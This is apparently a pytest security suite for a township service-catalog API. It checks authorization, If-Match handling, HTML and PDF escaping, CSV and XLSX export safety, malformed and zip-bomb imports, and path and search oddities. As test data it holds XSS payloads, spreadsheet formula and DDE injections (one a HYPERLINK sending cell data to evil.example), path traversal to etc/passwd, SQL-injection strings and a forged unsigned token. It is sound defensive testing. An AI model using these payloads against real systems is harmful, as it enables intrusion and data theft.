"""Attacks on catalog administration, catalog files and the eight-publicity notices (issue 7):
who may write, If-Match oddities, hostile item text in the HTML/PDF notice, spreadsheet formula
injection in the exports, malformed import files, odd public URLs and search queries, township
settings validation. Each test states what a user (or an attacker's victim) would expect."""
import csv
import io
import json
import random
import time
import zipfile
from urllib.parse import quote

import pytest

from chalicelib import container, settings
from chalicelib.domain.errors import DomainError, ValidationFailed
from chalicelib.usecases import catalog as catalog_uc
from chalicelib.usecases import catalog_files
from tests.conftest import SEED, table_items

TOWNSHIP, OTHER = "431224100", "431224101"
FORMULA_STARTS = ("=", "+", "-", "@")


def new_item(code="HH-ATK-001", name="攻击测试事项", **overrides):
    record = {"code": code, "name": name, "category": "civil_affairs", "department": "乡镇人民政府", "item_type": "20",
              "exercising_level": "5", "delegation": "devolved",
              "publicities": {
                  "legal_basis": [{"law": "《测试条例》", "article": "第一条"}],
                  "conditions": ["本乡镇户籍居民"],
                  "procedure": [{"step": "申请", "level": "applicant"}, {"step": "办结", "level": "township"}],
                  "materials": [{"name": "身份证复印件", "required": True}],
                  "time_limit": {"legal": {"value": 20, "unit": "working_days"},
                                 "promised": {"value": 5, "unit": "working_days"}},
                  "fees": {"charged": False, "standard": "不收费"}}}
    record.update(overrides)
    return record


def call(client, method, path, headers=None, body=None, if_match=None):
    headers = dict(headers or {"Content-Type": "application/json"})
    headers.setdefault("Content-Type", "application/json")
    if if_match is not None:
        headers["If-Match"] = if_match
    fn = {"GET": client.http.get, "POST": client.http.post, "PUT": client.http.put}[method]
    if method == "GET":
        return fn(path, headers=headers)
    return fn(path, headers=headers, body=json.dumps(body if body is not None else {}, ensure_ascii=False))


def current(code):
    return container.catalog().get_item(code)


def seed_record(code):
    return next(r for r in json.loads((SEED / "catalog_items.json").read_text(encoding="utf-8")) if r["code"] == code)


def publicity_messages(queues):
    return queues.bodies(settings.PUBLICITY_QUEUE)


def catalog_snapshot():
    """Every catalog row except the notices (tests only)."""
    return sorted(json.dumps(i, sort_keys=True) for i in table_items(settings.CATALOG_TABLE))


def assert_error(response, statuses):
    assert response.status_code in statuses, (response.status_code, response.body)
    body = response.json_body
    assert isinstance(body, dict) and body.get("code") and body["code"] != "INTERNAL_ERROR", body
    return body


# --- authorization ---------------------------------------------------------------------------------

def check_only_an_administrator_may_change_the_catalog_or_township_settings(client, auth, queues, who):
    # GIVEN someone who is not an administrator
    if who == "anonymous":
        headers = {"Content-Type": "application/json"}
    elif who == "garbage_token":
        headers = {"Content-Type": "application/json", "Authorization": "Bearer eyJhbGciOiJub25lIn0.e30."}
    elif who == "villager":
        headers = auth.villager()
    else:
        headers = auth.staff(f"atk.{who}", [who], None if who == "county_approver" else [TOWNSHIP],
                             department="MZJ" if who == "county_approver" else None)
    publicity_messages(queues)
    before = catalog_snapshot()
    township = seed_record_township(OTHER)
    attempts = [
        ("POST", "/v1/admin/services", new_item(), None),
        ("PUT", "/v1/admin/services/HH-MZ-001", {**seed_record("HH-MZ-001"), "name": "被篡改的事项"}, "1"),
        ("POST", "/v1/admin/services/HH-MZ-001/retire", {}, "1"),
        ("PUT", f"/v1/admin/townships/{OTHER}/settings", {**township, "supervision_phone": "13800000000"}, "1"),
        ("PUT", "/v1/admin/townships/431224199/settings", {**township, "code": "431224199"}, None),
        ("GET", f"/v1/admin/townships/{OTHER}/settings", None, None),
    ]
    # WHEN they try every write (and the staff-only read), THEN 401 without a valid login, 403 with one
    # (a forged token is refused by the authorizer: 401 or 403 both keep the door shut)
    expected = {401} if who == "anonymous" else {401, 403} if who == "garbage_token" else {403}
    for method, path, body, if_match in attempts:
        response = call(client, method, path, headers, body, if_match)
        assert response.status_code in expected, (method, path, response.status_code, response.body)
    # AND nothing was written, nothing announced
    assert catalog_snapshot() == before
    assert publicity_messages(queues) == []
    assert container.audit_log().query("ITEM#HH-MZ-001", 10, None)[0] == []


def seed_record_township(code):
    return next(t for t in json.loads((SEED / "townships.json").read_text(encoding="utf-8")) if t["code"] == code)


# --- If-Match ----------------------------------------------------------------------------------------

GARBAGE_IF_MATCH = ["abc", "-1", "1.0", "9" * 5000, "３", "²", "", "W/\"abc\"", "1, 2", "*"]


def check_garbage_if_match_is_a_stable_400_and_writes_nothing(client, auth, queues, if_match):
    admin = auth.admin()
    publicity_messages(queues)
    before = catalog_snapshot()
    update = call(client, "PUT", "/v1/admin/services/HH-MZ-001", admin,
                  {**seed_record("HH-MZ-001"), "name": "不应写入的修改"}, if_match)
    retire = call(client, "POST", "/v1/admin/services/HH-MZ-001/retire", admin, {}, if_match)
    township = call(client, "PUT", f"/v1/admin/townships/{OTHER}/settings", admin,
                    {**seed_record_township(OTHER), "supervision_phone": "13800000000"}, if_match)
    for response in (update, retire, township):
        body = assert_error(response, {400, 412})
        if response.status_code == 400:
            assert body["details"][0]["field"] == "If-Match"
            assert body["details"][0]["code"] in ("FIELD_FORMAT", "IF_MATCH_REQUIRED")
    assert catalog_snapshot() == before
    assert publicity_messages(queues) == []


def test_missing_stale_and_future_if_match(client, auth):
    admin = auth.admin()
    record = {**seed_record("HH-MZ-001"), "name": "修改后的名称"}
    missing = call(client, "PUT", "/v1/admin/services/HH-MZ-001", admin, record)
    assert assert_error(missing, {400})["details"][0]["code"] == "IF_MATCH_REQUIRED"
    missing_retire = call(client, "POST", "/v1/admin/services/HH-MZ-001/retire", admin, {})
    assert assert_error(missing_retire, {400})["details"][0]["code"] == "IF_MATCH_REQUIRED"
    missing_township = call(client, "PUT", f"/v1/admin/townships/{OTHER}/settings", admin, seed_record_township(OTHER))
    assert assert_error(missing_township, {400})["details"][0]["code"] == "IF_MATCH_REQUIRED"
    for stale in ("0", "2", "999999999", "W/\"2\""):
        for response in (call(client, "PUT", "/v1/admin/services/HH-MZ-001", admin, record, stale),
                         call(client, "POST", "/v1/admin/services/HH-MZ-001/retire", admin, {}, stale)):
            body = assert_error(response, {412})
            assert body["code"] == "VERSION_MISMATCH" and body["version"] == 1
    # the If-Match of an unknown item is 404, not 412 or 500
    assert assert_error(call(client, "PUT", "/v1/admin/services/HH-NOPE-001", admin,
                             new_item("HH-NOPE-001"), "1"), {404})["code"]
    assert current("HH-MZ-001")["version"] == 1 and not current("HH-MZ-001")["retired_at"]
    # a new township takes no If-Match or 0; another number is stale
    fresh = {**seed_record_township(OTHER), "code": "431224188", "offers": {}}
    assert assert_error(call(client, "PUT", "/v1/admin/townships/431224188/settings", admin, fresh, "3"),
                        {412})["version"] == 0
    assert container.catalog().get_township("431224188") is None


# --- hostile item text in the notice ------------------------------------------------------------------

def _regenerate_through_admin(client, auth, queues, record):
    """PUT ``record`` (a seed item both townships offer) and deliver the publicity queue."""
    admin = auth.admin()
    publicity_messages(queues)
    response = call(client, "PUT", f"/v1/admin/services/{record['code']}", admin, record, "1")
    return response


def _deliver(queues):
    responses = queues.deliver(settings.PUBLICITY_QUEUE, "on_publicity_request")
    return [f for r in responses for f in (r or {}).get("batchItemFailures", [])]


HOSTILE = "\"'<script>alert(1)</script><img src=x onerror=alert(2)>&amp;</title><!--"


def test_hostile_markup_quotes_and_emoji_are_escaped_in_the_notice_and_the_pdf_renders(client, auth, queues):
    import pypdf
    record = seed_record("HH-MZ-003")
    record["name"] = "临时救助" + HOSTILE[:60] + "👴🏻🧓"
    record["department"] = "<b>乡镇</b>\"人民政府\"'"
    record["publicities"]["conditions"] = ["<svg onload=alert(3)>条件", "emoji 条件 🚜🌾👨‍👩‍👧", "‮反向文字覆盖"]
    record["publicities"]["materials"] = [{"name": "</li><script>x()</script>", "required": True,
                                           "note": "javascript:alert(1)"}]
    record["publicities"]["fees"]["standard"] = "不收费 <a href=\"http://evil.example\">点此</a>"
    response = _regenerate_through_admin(client, auth, queues, record)
    assert response.status_code == 200, response.body
    assert _deliver(queues) == []
    page = client.http.get(f"/v1/public/notices/{TOWNSHIP}/HH-MZ-003")
    assert page.status_code == 200
    text = page.body.decode("utf-8")
    lowered = text.lower()
    assert "<script" not in lowered and "<svg" not in lowered and "<img src=x" not in lowered
    assert "<a href=\"http://evil" not in lowered and "<b>" not in lowered and "</title><!--" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text and "👴🏻🧓" in text
    assert "default-src 'none'" in page.headers["Content-Security-Policy"]
    pdf = client.http.get(f"/v1/public/notices/{TOWNSHIP}/HH-MZ-003/notice.pdf")
    assert pdf.status_code == 302
    key = container.notices().get(TOWNSHIP, "HH-MZ-003")["keys"]["pdf"]
    data = container.objects().get_bytes(key, None)
    assert data.startswith(b"%PDF")
    extracted = "".join(p.extract_text() for p in pypdf.PdfReader(io.BytesIO(data)).pages)
    assert "临时救助" in extracted


def test_control_characters_in_item_text_are_refused_or_rendered(client, auth, queues):
    record = seed_record("HH-MZ-003")
    record["name"] = "临时救助\x00\x01\x07\x08\x1b[31m\x7f\u200b\ufeff"
    record["publicities"]["conditions"] = ["条件\x0b\x0c换页", "条件\r\n回车\t制表"]
    response = _regenerate_through_admin(client, auth, queues, record)
    # THEN a clean 422 names each field holding a control character (tab, CR, LF are text), and nothing is written
    assert response.status_code == 422 and response.json_body["code"] == "ITEM_INVALID", response.body
    found = {(d["field"], d["code"]) for d in response.json_body["details"]}
    assert found == {("name", "CONTROL_CHARACTER"), ("publicities.conditions[0]", "CONTROL_CHARACTER")}, found
    assert current("HH-MZ-003")["version"] == 1


def test_the_longest_item_the_schema_allows_still_gets_a_notice(client, queues):
    # GIVEN an item just under the import's 100 KB row cap (the API caps bodies at 64 KB): about
    # 30,000 characters of conditions (one a single unbroken 2,000-character "word"), a
    # 200-character name: many pages of text in the one table cell of 办事条件
    import datetime as dt
    record = seed_record("HH-MZ-003")
    record["name"] = "长" * 199 + "名"
    record["publicities"]["conditions"] = ["X" * 2000] + ["很长的受理条件" * 285 for _ in range(14)]
    report = catalog_uc.import_catalog([record], container.catalog())
    assert report.updated == ["HH-MZ-003"] and not report.write_error, (report.write_error, report.errors)
    queues.take_all(settings.PUBLICITY_QUEUE)
    queues.send(settings.PUBLICITY_QUEUE, {"item_code": "HH-MZ-003", "item_version": 2, "township_code": TOWNSHIP,
                                           "reason": "import", "requested_at":
                                               dt.datetime.now(dt.timezone.utc).isoformat(timespec="seconds")})
    # WHEN the notice is generated, THEN it is (the consumer does not fail and dead-letter it)
    failures = _deliver(queues)
    assert failures == [], "the publicity consumer failed on the longest allowed item"
    assert client.http.get(f"/v1/public/notices/{TOWNSHIP}/HH-MZ-003").status_code == 200
    key = container.notices().get(TOWNSHIP, "HH-MZ-003")["keys"]["pdf"]
    assert container.objects().get_bytes(key, None).startswith(b"%PDF")


# --- spreadsheet formula injection ------------------------------------------------------------------

def _formula_records():
    records = []
    for i, start in enumerate(FORMULA_STARTS):
        record = seed_record("HH-MZ-00" + str(i + 1))
        record["name"] = f"{start}HYPERLINK(\"http://evil.example/?\"&A1,\"点击领取补贴\")"
        record["department"] = f"{start}cmd|' /C calc'!A0"
        record["publicities"]["materials"] = [{"name": f"{start}SUM(1+1)*cmd|' /C calc'!A0", "required": True}]
        records.append(record)
    return records


def test_csv_export_neutralises_formula_cells(client):
    # GIVEN items whose name, department and material start with = + - @
    records = _formula_records()
    # WHEN exported to CSV (what an official opens in Excel)
    data = catalog_files.export_table(records, "csv")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    # THEN no cell begins with a formula trigger (OWASP CSV injection: prefix with ' or a tab)
    dangerous = [cell for row in rows[1:] for cell in row if cell[:1] in FORMULA_STARTS]
    assert dangerous == [], f"{len(dangerous)} cells a spreadsheet would execute, e.g. {dangerous[0]!r}"


def test_csv_export_with_formula_text_still_round_trips(client):
    records = _formula_records()
    data = catalog_files.export_table(records, "csv")
    back = catalog_files.read_catalog_file("export.csv", data)
    assert {r["code"]: r["name"] for r in back.records} == {r["code"]: r["name"] for r in records}


def test_xlsx_export_writes_formula_text_as_text_not_as_formulas(client):
    from openpyxl import load_workbook
    records = _formula_records()
    # WHEN exported to XLSX, THEN the export works (the names are text, not an error) ...
    try:
        data = catalog_files.export_table(records, "xlsx")
    except ValidationFailed as exc:
        pytest.fail(f"XLSX export refused ordinary text starting with = + - @: {exc.details[:2]}")
    # ... and no cell is stored as a formula
    book = load_workbook(io.BytesIO(data))
    formulas = [(s.title, c.coordinate, c.value) for s in book.worksheets for row in s.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    back = catalog_files.read_catalog_file("export.xlsx", data)
    assert {r["code"]: r["name"] for r in back.records} == {r["code"]: r["name"] for r in records}


# --- malformed import files --------------------------------------------------------------------------

def _zip(parts):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, content in parts.items():
            z.writestr(name, content)
    return out.getvalue()


def _xlsx_bomb(megabytes=64):
    """A well-formed XLSX of a few hundred KB whose sheet XML is ``megabytes`` MB."""
    from openpyxl import Workbook
    book = Workbook()
    book.active.title = "事项"
    book.active.append(["事项编码", "事项名称"])
    buffer = io.BytesIO()
    book.save(buffer)
    parts = {}
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as z:
        for name in z.namelist():
            parts[name] = z.read(name)
    sheet = next(n for n in parts if n.startswith("xl/worksheets/sheet"))
    xml = parts[sheet].decode("utf-8")
    rows = "".join(f'<row r="{i}"/>' for i in range(3, 3 + 200_000))
    padding = " " * (megabytes * 1024 * 1024)
    xml = xml.replace("</sheetData>", rows + "</sheetData>" + padding.join(["", ""]))
    xml = xml.replace("<sheetData>", "<sheetData>" + padding)
    parts[sheet] = xml.encode("utf-8")
    return _zip(parts)


def _csv_with_columns(n):
    header = ["事项编码", "事项名称", "事项类型", "行使层级", "实施主体"] + [f"无关列{i}" for i in range(n)]
    row = ["HH-WIDE-01", "很宽的表", "公共服务", "乡镇级", "乡镇人民政府"] + ["x"] * n
    return ("\ufeff" + ",".join(header) + "\r\n" + ",".join(row) + "\r\n").encode("utf-8")


def _random(n, seed=7):
    rnd = random.Random(seed)
    return bytes(rnd.getrandbits(8) for _ in range(n))


MALFORMED = [
    ("random.xlsx", _random(4096)),
    ("empty.xlsx", b""),
    ("notxlsx.xlsx", _zip({"hello.txt": b"not a workbook"})),
    ("onlymaterials.xlsx", None),  # built in the test: a workbook with only 申报材料
    ("random.csv", _random(4096, seed=3)),
    ("empty.csv", b""),
    ("bom.csv", b"\xef\xbb\xbf"),
    ("nul.csv", b"\xef\xbb\xbf\xe4\xba\x8b\x00\x00,\x00\r\n\x00"),
    ("bigfield.csv", ("事项编码,事项名称\r\n\"" + "x" * 200_000 + "\",名称\r\n").encode("utf-8")),
    ("quote.csv", "事项编码,事项名称\r\n\"HH-Q-001,未闭合的引号\r\n".encode("utf-8")),
    ("utf16.csv", "事项编码,事项名称\r\nHH-U-001,名称\r\n".encode("utf-16")),
    ("random.json", _random(512, seed=5)),
    ("dict.json", b'{"code": "HH-J-001"}'),
    ("ints.json", b"[1, 2, 3]"),
    ("nested.json", b"[" * 5000 + b"]" * 5000),
    ("strings.json", b'["a", null, true]'),
    ("noextension", b"hello"),
    ("CATALOG.XLSX", b"PK\x03\x04garbage"),
]


def check_a_malformed_file_is_refused_with_a_clear_error_never_a_crash(aws, name, data):
    if data is None:
        from openpyxl import Workbook
        book = Workbook()
        book.active.title = "申报材料"
        book.active.append(["事项编码", "材料名称"])
        buffer = io.BytesIO()
        book.save(buffer)
        data = buffer.getvalue()
    try:
        report = catalog_files.import_file(name, data, container.catalog(), dry_run=True)
    except DomainError as exc:
        assert exc.details and all(d.code for d in exc.details), exc
        return
    except Exception as exc:  # noqa: BLE001 - what we are looking for
        pytest.fail(f"{name}: raw {type(exc).__name__}: {str(exc)[:200]}")
    # a file that could be read at all must report its problems row by row, writing nothing
    assert report.errors, f"{name}: read as a clean catalog of {report.total} items"
    assert report.written == 0


def test_a_zip_bomb_xlsx_is_refused_quickly(aws):
    data = _xlsx_bomb(64)
    assert len(data) < 2 * 1024 * 1024
    started = time.perf_counter()
    try:
        report = catalog_files.import_file("bomb.xlsx", data, container.catalog(), dry_run=True)
    except DomainError as exc:
        assert exc.details and exc.details[0].code
        report = None
    except Exception as exc:  # noqa: BLE001
        pytest.fail(f"raw {type(exc).__name__}: {str(exc)[:200]}")
    elapsed = time.perf_counter() - started
    assert report is None or report.errors
    assert elapsed < 20, f"a {len(data) // 1024} KB file took {elapsed:.1f} s to refuse"


def test_ten_thousand_columns_are_read_or_refused_cleanly(aws):
    data = _csv_with_columns(10_000)
    started = time.perf_counter()
    try:
        report = catalog_files.import_file("wide.csv", data, container.catalog(), dry_run=True)
    except DomainError as exc:
        assert exc.details
        return
    assert time.perf_counter() - started < 20
    assert report.errors == [] and report.created == ["HH-WIDE-01"] and report.written == 0


def test_a_gbk_csv_imports_like_a_utf8_one(aws):
    text = ("事项编码,事项名称,事项类型,行使层级,实施主体\r\n"
            "HH-GBK-001,农村低保申请（镕、堃、喆）,行政给付,乡镇级,乡镇人民政府\r\n")
    for encoding in ("gbk", "gb18030", "utf-8", "utf-8-sig"):
        report = catalog_files.import_file("gbk.csv", text.encode(encoding), container.catalog(), dry_run=True)
        assert report.errors == [] and report.created == ["HH-GBK-001"], (encoding, report.to_dict())


# --- public notice URLs, Open311, search ------------------------------------------------------------

ODD_NOTICE_PATHS = [
    f"/v1/public/notices/../HH-MZ-001",
    f"/v1/public/notices/{TOWNSHIP}/..",
    f"/v1/public/notices/{TOWNSHIP}/..%2F..%2Fetc%2Fpasswd",
    f"/v1/public/notices/%2e%2e/{TOWNSHIP}",
    f"/v1/public/notices/{TOWNSHIP}%2F..%2F{OTHER}/HH-MZ-001",
    f"/v1/public/notices/{TOWNSHIP}%23HH-MZ/001",
    f"/v1/public/notices/{TOWNSHIP}/HH-MZ-001%00",
    f"/v1/public/notices/{TOWNSHIP}/HH-MZ-001/..%2F..%2Fnotice.pdf",
    f"/v1/public/notices/{TOWNSHIP}/HH-MZ-001/notice.pdf%00.png",
    f"/v1/public/notices/{TOWNSHIP}/HH-MZ-001/NOTICE.PDF",
    f"/v1/public/notices/{TOWNSHIP}/HH-MZ-001/__proto__",
    f"/v1/public/notices/{TOWNSHIP}/{quote('低保')}",
    f"/v1/public/notices/{'9' * 3000}/HH-MZ-001",
    f"/v1/public/notices/{TOWNSHIP}/{'A' * 3000}",
    f"/v1/public/notices/{TOWNSHIP}/{'A' * 3000}/notice.pdf",
]


def check_odd_notice_paths_are_404_or_400_never_500(client, queues, path):
    queues.take_all(settings.PUBLICITY_QUEUE)
    response = client.http.get(path)
    assert response.status_code in (400, 403, 404), (response.status_code, response.body[:300])
    assert b"INTERNAL_ERROR" not in response.body


ODD_SERVICE_PATHS = [
    f"/v1/services/{'A' * 3000}",
    f"/v1/services/{'A' * 3000}/versions",
    f"/v1/services/{'A' * 3000}/versions/1",
    "/v1/services/HH-MZ-001/versions/0",
    "/v1/services/HH-MZ-001/versions/-1",
    "/v1/services/HH-MZ-001/versions/%EF%BC%91",
    "/v1/services/HH-MZ-001/versions/99999999999999999999",
    "/v1/services/HH-MZ-001/versions?cursor=abc",
    "/v1/services/HH-MZ-001/versions?limit=0",
    "/v1/services/HH-MZ-001/versions?limit=101",
    "/v1/services/TOWNSHIP%23431224100",
    "/v1/services/ITEM%23HH-MZ-001%23v0001/versions/1",
    f"/v1/services/HH-MZ-001?township={'9' * 3000}",
    "/v1/services/HH-MZ-001?township=..%2F..",
]


def check_odd_item_paths_are_4xx_never_500(client, path):
    response = client.http.get(path)
    assert 400 <= response.status_code < 500, (response.status_code, response.body[:300])


OPEN311 = [
    ("/open311/v2/services.json?jurisdiction_id=", {200}),
    ("/open311/v2/services.json?jurisdiction_id=" + quote("４３１２２４１００"), {404}),
    ("/open311/v2/services.json?jurisdiction_id=" + quote("४३१२२४१००"), {404}),
    ("/open311/v2/services.json?jurisdiction_id=431224100%0A", {404}),
    ("/open311/v2/services.json?jurisdiction_id=" + "9" * 5000, {404}),
    ("/open311/v2/services.json?jurisdiction_id=../../etc", {404}),
    ("/open311/v2/services.json?jurisdiction_id=%27%20OR%201%3D1--", {404}),
    ("/open311/v2/services/HH-MZ-001.json?jurisdiction_id=" + quote("４３１２２４１００"), {404}),
    ("/open311/v2/services/HH-MZ-001.json?jurisdiction_id=" + "1" * 5000, {404}),
    ("/open311/v2/services/.json", {404}),
    ("/open311/v2/services/HH-MZ-001.json.json", {404}),
    ("/open311/v2/services/HH-MZ-001.xml", {404}),
    ("/open311/v2/services/" + "A" * 3000 + ".json", {404}),
    ("/open311/v2/services/TOWNSHIP%23431224100.json", {404}),
    ("/open311/v2/services/ITEM%23HH-MZ-001%23v0001.json", {404}),
]


def check_open311_oddities_answer_in_open311_shape(client, path, statuses):
    response = client.http.get(path)
    assert response.status_code in statuses, (response.status_code, response.body[:300])
    body = response.json_body
    if response.status_code != 200:
        assert isinstance(body, list) and body and {"code", "description"} <= set(body[0]), body
        assert all(len(e["description"]) < 300 for e in body)  # the attacker's input is not echoed in full


SEARCHES = [
    ("低" * 50, {200}), ("低" * 51, {400}), ("x" * 50, {200}),
    ("、，,,  ", {200, 400}), ("！？。…", {200}), ("%", {200}), ("_", {200}), ("*", {200}),
    (".*", {200}), ("(", {200}), ("[a-z]+", {200}), ("\\", {200}), ("' OR 1=1 --", {200}),
    ("ＨＨ－ＭＺ－００１", {200}), ("低保\u3000", {200}), ("👴" * 50, {200}), ("\u200b", {200, 400}),
    ("\x00", {200, 400}), ("<script>", {200}), ("低保 " * 16, {200}),
]


def check_search_oddities_never_fail(client, q, statuses):
    response = client.http.get("/v1/services?q=" + quote(q))
    assert response.status_code in statuses, (response.status_code, response.body[:300])
    if response.status_code == 200:
        assert "items" in response.json_body


def test_search_is_literal_not_a_pattern_and_folds_full_width(client):
    def codes(q):
        response = client.http.get("/v1/services?q=" + quote(q) + "&limit=100")
        assert response.status_code == 200, response.body
        return [i["code"] for i in response.json_body["items"]]
    assert codes(".*") == [] and codes("%") == [] and codes("[a-z]+") == []
    assert codes("ＨＨ－ＭＺ－００１") == ["HH-MZ-001"]
    assert codes("低保\u3000") == codes("低保")


def test_punctuation_only_query_does_not_return_the_whole_catalog_as_matches(client):
    response = client.http.get("/v1/services?q=" + quote("、，,,"))
    assert response.status_code in (200, 400), response.body
    if response.status_code == 200:
        assert response.json_body["items"] == [] or all("score" not in i or i["score"] == 0
                                                         for i in response.json_body["items"])


# --- township settings ---------------------------------------------------------------------------------

def _settings(client, admin, code=TOWNSHIP):
    body = call(client, "GET", f"/v1/admin/townships/{code}/settings", admin).json_body
    return body["settings"], str(body["version"])


def _put_settings(client, admin, record, version, code=TOWNSHIP):
    return call(client, "PUT", f"/v1/admin/townships/{code}/settings", admin, record, version)


def test_more_than_96_offers_are_refused_and_nothing_is_written(client, auth, queues):
    admin = auth.admin()
    publicity_messages(queues)
    record, version = _settings(client, admin)
    offers = {f"HH-FAKE-{i:03d}": {} for i in range(97)}
    response = _put_settings(client, admin, {**record, "offers": offers}, version)
    body = assert_error(response, {422})
    assert body["code"] == "TOWNSHIP_SETTINGS_INVALID"
    assert container.catalog().get_township(TOWNSHIP)["version"] == int(version)
    assert publicity_messages(queues) == []


def test_too_many_offer_changes_at_once_are_refused(client, auth, queues):
    admin = auth.admin()
    # GIVEN 60 more items in the catalog
    extra = [{"code": f"HH-EXTRA-{i:03d}", "name": f"附加事项{i}", "department": "乡镇人民政府", "item_type": "20",
              "exercising_level": "5", "category": "other", "delegation": "own"} for i in range(60)]
    report = catalog_uc.import_catalog(extra, container.catalog())
    assert not report.errors, report.to_dict()
    publicity_messages(queues)
    record, version = _settings(client, admin)
    # WHEN the township drops its 44 items and takes 53 new ones (97 changes)
    response = _put_settings(client, admin, {**record, "offers": {e["code"]: {} for e in extra[:53]}}, version)
    body = assert_error(response, {422})
    assert body["details"][0]["code"] == "TOO_MANY_OFFER_CHANGES"
    assert container.catalog().get_township(TOWNSHIP)["version"] == int(version)
    assert publicity_messages(queues) == []
    # AND 96 changes go through in one version
    ok = _put_settings(client, admin, {**record, "offers": {e["code"]: {} for e in extra[:52]}}, version)
    assert ok.status_code == 200, ok.body


BAD_SETTINGS = [
    ({"supervision_phone": "１３８１２３４５６７８"}, "supervision_phone"),
    ({"supervision_phone": "0745-1234567; DROP TABLE"}, "supervision_phone"),
    ({"supervision_phone": "12345678901234567890"}, "supervision_phone"),
    ({"supervision_phone": "<script>alert(1)</script>"}, "supervision_phone"),
    ({"consultation_phone": "0745-1234567（" + "注" * 70 + "）"}, "consultation_phone"),
    ({"office_hours": {"open": "17:30", "close": "08:30"}}, "office_hours.close"),
    ({"office_hours": {"open": "08:30", "close": "08:30"}}, "office_hours.close"),
    ({"office_hours": {"open": "24:00", "close": "25:00"}}, "office_hours"),
    ({"office_hours": {"open": "８:30", "close": "17:30"}}, "office_hours"),
    ({"market_days": {"calendar": "lunar", "days": [3, 3]}}, "market_days"),
    ({"market_days": {"calendar": "weekly", "days": [0]}}, "market_days"),
    ({"offers": {"NO-SUCH-ITEM": {}}}, "offers.NO-SUCH-ITEM"),
    ({"offers": {"../HH-MZ-001": {}}}, "offers"),
    ({"offers": {"ITEM#HH-MZ-001#v0001": {}}}, "offers"),
    ({"offers": {"HH-MZ-001": {"delegation": "stolen"}}}, "offers"),
    ({"code": "431224101"}, "code"),
]


def check_bad_township_settings_are_422_per_field_and_write_nothing(client, auth, queues, change, field):
    admin = auth.admin()
    publicity_messages(queues)
    record, version = _settings(client, admin)
    response = _put_settings(client, admin, {**record, **change}, version)
    body = assert_error(response, {422})
    assert body["code"] == "TOWNSHIP_SETTINGS_INVALID"
    assert any(d["field"].startswith(field.split(".")[0]) for d in body["details"]), body["details"]
    assert container.catalog().get_township(TOWNSHIP)["version"] == int(version)
    assert publicity_messages(queues) == []


def check_township_settings_bodies_of_the_wrong_type_are_4xx(client, auth, body):
    admin = auth.admin()
    _, version = _settings(client, admin)
    response = _put_settings(client, admin, body, version)
    assert_error(response, {400, 422})


def test_township_settings_path_codes_that_are_not_townships(client, auth):
    admin = auth.admin()
    for code in ("abc", "..", "4312241001", "４３１２２４１００", "9" * 3000):
        got = call(client, "GET", f"/v1/admin/townships/{quote(code)}/settings", admin)
        assert_error(got, {400, 404})
        put = call(client, "PUT", f"/v1/admin/townships/{quote(code)}/settings", admin,
                   {**seed_record_township(OTHER), "code": code, "offers": {}})
        assert_error(put, {400, 404, 422})


def test_item_bodies_of_the_wrong_type_or_odd_codes_are_4xx(client, auth):
    admin = auth.admin()
    for body in ([], "x", 1, None, {}, {"code": "../../x"}, new_item("HH-ATK-002", name="x" * 201),
                 new_item("A" * 81), new_item("HH-ATK-003", keywords=["a"] * 100000)):
        assert_error(call(client, "POST", "/v1/admin/services", admin, body), {400, 413, 422})
    raw = client.http.post("/v1/admin/services", headers=admin, body=b"{not json")
    assert_error(raw, {400})
    huge_path = call(client, "PUT", f"/v1/admin/services/{'A' * 3000}", admin, new_item("A" * 3000), "1")
    assert_error(huge_path, {400, 404, 422})


# --- the parametrised checks above run in one test each, on one seeded stack (a stack per case
# took about 4 minutes for the file) -----------------------------------------------------------


def test_only_an_administrator_may_change_the_catalog_or_township_settings(client, auth, queues):
    for who in ["anonymous", "villager", "window_clerk", "county_approver", "supervisor",
                                 "garbage_token"]:
        check_only_an_administrator_may_change_the_catalog_or_township_settings(client, auth, queues, who)


def test_garbage_if_match_is_a_stable_400_and_writes_nothing(client, auth, queues):
    for if_match in GARBAGE_IF_MATCH:
        check_garbage_if_match_is_a_stable_400_and_writes_nothing(client, auth, queues, if_match)


def test_a_malformed_file_is_refused_with_a_clear_error_never_a_crash(aws):
    for name, data in MALFORMED:
        check_a_malformed_file_is_refused_with_a_clear_error_never_a_crash(aws, name, data)


def test_odd_notice_paths_are_404_or_400_never_500(client, queues):
    for path in ODD_NOTICE_PATHS:
        check_odd_notice_paths_are_404_or_400_never_500(client, queues, path)


def test_odd_item_paths_are_4xx_never_500(client):
    for path in ODD_SERVICE_PATHS:
        check_odd_item_paths_are_4xx_never_500(client, path)


def test_open311_oddities_answer_in_open311_shape(client):
    for path, statuses in OPEN311:
        check_open311_oddities_answer_in_open311_shape(client, path, statuses)


def test_search_oddities_never_fail(client):
    for q, statuses in SEARCHES:
        check_search_oddities_never_fail(client, q, statuses)


def test_bad_township_settings_are_422_per_field_and_write_nothing(client, auth, queues):
    for change, field in BAD_SETTINGS:
        check_bad_township_settings_are_422_per_field_and_write_nothing(client, auth, queues, change, field)


def test_township_settings_bodies_of_the_wrong_type_are_4xx(client, auth):
    for body in [[], "text", 42, None, {"code": TOWNSHIP}]:
        check_township_settings_bodies_of_the_wrong_type_are_4xx(client, auth, body)
